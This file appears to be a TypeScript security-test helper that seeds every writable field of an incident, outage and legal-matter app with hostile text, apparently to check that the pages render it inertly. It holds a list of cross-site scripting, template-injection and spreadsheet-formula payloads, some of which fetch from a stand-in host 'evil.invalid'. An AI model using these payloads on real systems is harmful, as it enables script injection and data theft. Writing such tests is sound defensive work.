// Everything that people can write for others to read, written as somebody would who wants to break in: by the app's own
// mutations, sent by a client of its own, so that no form stands between.
import { makeId } from '../../src/domain/identity.ts'
import { isRefusal, type Mutation, type MutationContext, type Reads } from '../../src/domain/mutation.ts'
import { saves } from '../../src/domain/mutations/keep-catalogue.ts'
import { setAssumption } from '../../src/domain/mutations/keep-facts.ts'
import { announceMaintenance } from '../../src/domain/mutations/plan-work.ts'
import { raiseIncident } from '../../src/domain/mutations/raise-incident.ts'
import { addEntry } from '../../src/domain/mutations/record-time.ts'
import { reportOutage } from '../../src/domain/mutations/report-outage.ts'
import { addComment, addWorkNote, escalateIncident } from '../../src/domain/mutations/tell-incident.ts'
import { addNote, describeOutage, saveReach } from '../../src/domain/mutations/tell-outage.ts'
import { workOnIncident } from '../../src/domain/mutations/work-incident.ts'
import { ForeignClient } from '../flow/foreign/client.ts'
import { person } from './steps.ts'
import { samplePassword } from './story.ts'

/** Every element that a text would make carries this. */
export const markOfElements = 'data-wicked'
/** What the code in the texts would do. */
const run = "window.ran=1;document.title='ran';alert(1);fetch('//evil.invalid/ran')"

/** For fields of 40 letters and more. */
export const briefly = (name: string) => `~${name}<b ${markOfElements} onclick=ran=1>`
/** For fields of 120 letters. */
export const short = (name: string) =>
  `~${name}<img ${markOfElements} src=//evil.invalid/x onerror=ran=1>'"{{7*7}}\${ran=1}\u202egnp\u202c`
export const long = (name: string) =>
  [
    `~${name}<img ${markOfElements} src="https://evil.invalid/a.png" onerror="${run}">`,
    `<script ${markOfElements}>${run}</script><script ${markOfElements} src="//evil.invalid/a.js"></script>`,
    `<svg ${markOfElements} onload="${run}"><script>${run}</script><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
    `[a link](javascript:${run}) ![a picture](https://evil.invalid/b.png) <a ${markOfElements} href="javascript:${run}">a link</a>`,
    `"><iframe ${markOfElements} srcdoc="<script>parent.ran=1</script>"></iframe><details ${markOfElements} open ontoggle="${run}">`,
    `</textarea></title></style></template><style ${markOfElements}>body{display:none}</style><base ${markOfElements} href="//evil.invalid/">`,
    `{{constructor.constructor('ran=1')()}} \${ran=1} <%= ran=1 %> #{ran=1}`,
    '=HYPERLINK("https://evil.invalid/c","c")\u202egnp.exe\u202c\u0000\ufeff end',
  ].join('\n')

class Writer {
  readonly client: ForeignClient
  constructor(client: ForeignClient) {
    this.client = client
  }
  /** Records of a kind that are not taken away. */
  all(kind: string) {
    return [...this.client.rows.values()].filter(({ k, del }) => k === kind && !del)
  }
  first(kind: string, isWanted: (doc: Record<string, unknown>) => boolean = () => true) {
    const found = this.all(kind).find(({ doc }) => isWanted(doc))
    if (!found) throw new Error(`no ${kind} here`)
    return found
  }
  /** The id of the first record that it wrote. */
  async act<Args>(mutation: Mutation<Args>, args: Args): Promise<string> {
    const recorded = ({ id, doc }: { id: string; doc: object }) => ({ ...doc, id }) as never
    const reads: Reads = {
      get: async (kind, id) => {
        const row = this.client.row(kind, id)
        return row && !row.del ? recorded(row) : undefined
      },
      where: async (kind, field, value) =>
        this.all(kind)
          .filter(({ doc }) => doc[field] === value)
          .map(recorded) as never,
    }
    const now = Date.now()
    const newId = (at = now) => makeId(at, crypto.getRandomValues(new Uint8Array(10)))
    const context: MutationContext = { now, personId: this.client.userId, newId }
    const outcome = await mutation.run(mutation.args.parse(args), reads, context)
    if (isRefusal(outcome)) throw new Error(`${mutation.name}: ${outcome.message}`)
    const changes = outcome.map(({ k, id, s, set }) =>
      this.client.row(k, id) ? this.client.change(k, id, set) : { k, id, s, base: {}, set },
    )
    this.client.now = () => now
    this.client.record(mutation.name, ...changes)
    await this.client.push()
    if (this.client.refused.length > 0) throw new Error(`${mutation.name}: ${JSON.stringify(this.client.refused)}`)
    await this.client.pull()
    return outcome[0]?.id ?? ''
  }
  /** Sets fields of a record that is here. */
  save(kind: keyof typeof saves, isWanted: (doc: Record<string, unknown>) => boolean, fields: object): Promise<string> {
    const { id, doc } = this.first(kind, isWanted)
    return this.act(saves[kind] as Mutation<unknown>, { id, doc: { ...doc, ...fields } })
  }
}

async function writer(origin: string, email: string): Promise<Writer> {
  const client = new ForeignClient(origin, fetch)
  await client.signIn(email, samplePassword)
  await client.pull()
  return new Writer(client)
}

const any = () => true

/** Where the records are to be read, by the address of their pages. */
export interface Written {
  readonly outage: string
  readonly incident: string
  readonly followed: string
  readonly matter: string
  readonly system: string
  readonly division: string
  readonly planned: string
  readonly entry: string
}

/** Says where it was written. */
export async function writeHostile(origin: string): Promise<Written> {
  const desk = await writer(origin, person.ict)
  const systemId = await desk.save('system', any, {
    name: short('System'),
    about: long('About'),
    owner: short('Owner'),
  })
  await desk.save('desk_team', any, { name: short('DeskTeam') })
  await desk.save('incident_template', any, { name: short('Template'), title: short('Sample'), text: long('Said') })
  const council = desk.first('council').id
  const raised = {
    ...({ councilId: council, matrixPriority: 1, impact: 'department', urgency: 'critical' } as const),
    ...{ title: long('Title').slice(0, 290), text: long('Description'), category: short('Category') },
    requesterName: short('Requester'),
  }
  const incidentId = await desk.act(raiseIncident, raised)
  const names = { assigneeId: null, teamId: null, assigneeName: short('Assignee'), teamName: short('NamedTeam') }
  const said = { incidentId, councilId: council, minutes: 5 }
  await desk.act(workOnIncident, { incidentId, parts: { assign: names } })
  await desk.act(workOnIncident, { incidentId, parts: { system: { systemId: null, systemName: short('SystemName') } } })
  await desk.act(addComment, { ...said, text: long('Comment') })
  await desk.act(addWorkNote, { ...said, text: long('WorkNote') })
  await desk.act(escalateIncident, { incidentId, level: 2, reason: long('Reason').slice(0, 1900) })

  const outageId = await desk.act(reportOutage, { systemIds: [systemId], level: 'down' })
  const about = (name: string) => ({
    title: short(`${name}Title`),
    cause: long(`${name}Cause`),
    workaround: long(`${name}Way`),
  })
  // Two that see the same say different things.
  const other = await writer(origin, person.ict)
  await desk.act(describeOutage, { outageId, ...about('One') })
  await other.act(describeOutage, { outageId, ...about('Two') })
  await desk.act(addNote, { outageId, text: long('Update'), isForReaders: true })
  await desk.act(addNote, { outageId, text: long('Note'), isForReaders: false })
  const division = desk.first('division', ({ name }) => name === 'Housing').id
  const people = { outageId, councilId: council, divisions: [{ divisionId: division, people: 3 }] }
  await desk.act(saveReach, { ...people, workaround: long('Reach') })
  const startAt = Date.now() + 86_400_000
  const times = { startAt, endAt: startAt + 3_600_000 }
  const plannedId = await desk.act(announceMaintenance, {
    title: short('Planned'),
    text: long('Work'),
    systemIds: [systemId],
    ...times,
  })

  const admin = await writer(origin, person.admin)
  await admin.save('partnership', any, { name: short('Partnership') })
  await admin.save('council', any, { name: short('Council'), shortName: briefly('Short') })
  await admin.save('person', ({ name }) => name === 'Ben Carter', { name: short('Person'), team: short('PersonTeam') })
  await admin.save('division', ({ name }) => name === 'Housing', { name: short('Division') })
  await admin.save('calendar', any, { name: short('Calendar') })
  await admin.save('holiday', any, { name: short('Holiday'), source: short('Source') })

  const manager = await writer(origin, person.manager)
  const share = { topic: 'reliance', share: 0.5, afterMinutes: 0, source: 'assumed' } as const
  const day = new Date().toISOString().slice(0, 10)
  const place = { councilIds: [council], divisionId: division, systemId, from: day, asOf: day }
  await manager.act(setAssumption, { ...share, ...place, note: long('Assumption') })

  const lawyer = await writer(origin, person.legal)
  const parties = [{ name: short('Party'), role: 'other_side' }]
  const keyDates = [{ on: day, what: short('KeyDate') }]
  const words = { reference: briefly('Ref'), title: short('Matter'), note: long('MatterNote') }
  const matterId = await lawyer.save('matter', ({ closedOn, wallId }) => closedOn === null && wallId === null, {
    ...{ ...words, parties, keyDates },
  })
  const teamId = String(lawyer.client.row('matter', matterId)?.doc.teamId)
  const worked = {
    workedOn: day,
    startAt: null,
    endAt: null,
    seconds: 3600,
    isEstimated: false,
    source: 'typed',
  } as const
  const kind = { activity: 'advice', chargeability: 'chargeable' } as const
  const entryId = await lawyer.act(addEntry, { teamId, matterId, ...worked, ...kind, narrative: long('Narrative') })

  const staff = await writer(origin, person.staff)
  const { requesterName: _, ...own } = raised
  const followed = await staff.act(raiseIncident, { ...own, title: short('Own'), text: long('OwnText') })
  await desk.client.pull()
  await desk.act(addComment, { incidentId: followed, councilId: council, minutes: 0, text: long('Answer') })
  return {
    outage: `/outages/${outageId}`,
    incident: `/incidents/${incidentId}`,
    followed: `/incidents/${followed}`,
    matter: `/matters/${matterId}`,
    system: `/systems/${systemId}`,
    division: `/impact/divisions/${division}`,
    planned: `/outages/planned/${plannedId}`,
    entry: `/time/entries/${entryId}`,
  }
}
